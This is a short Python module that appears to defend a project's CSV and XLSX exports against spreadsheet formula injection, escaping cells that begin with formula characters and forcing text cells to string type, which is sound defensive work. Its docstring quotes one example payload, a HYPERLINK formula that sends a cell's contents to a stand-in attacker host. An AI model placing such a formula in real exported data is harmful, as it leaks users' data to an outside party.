"""Text from the registry made harmless where it is written: spreadsheet cells that a spreadsheet
cannot run (docs/decisions.md D22). Markdown on pages is escaped by ``valuetrack.ui.safe``.

A display name such as ``=HYPERLINK("http://evil.example/?d="&A1,"Click")`` is data, never a
formula: CSV cells that a spreadsheet would read as a formula get OWASP's leading apostrophe, and
XLSX cells holding text are written as text (``data_type "s"``), so openpyxl and Excel show the
characters as typed. Numbers are never touched.
"""

from __future__ import annotations

from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """A CSV cell a spreadsheet shows as text: ``'`` before text starting with = + - @ tab or CR
    (OWASP, "CSV Injection"). Numbers, and text that is a plain number such as "-5", are unchanged."""
    if not isinstance(value, str) or not value.startswith(FORMULA_START):
        return value
    try:
        float(value)
        return value
    except ValueError:
        return "'" + value


def text_not_formulas(workbook: Any) -> int:
    """Make every text cell of an openpyxl workbook a string cell (openpyxl turns text starting
    with "=" into a formula). Returns how many cells were changed. We write no formulas ourselves."""
    changed = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.data_type == "f":
                    cell.data_type = "s"
                    changed += 1
    return changed
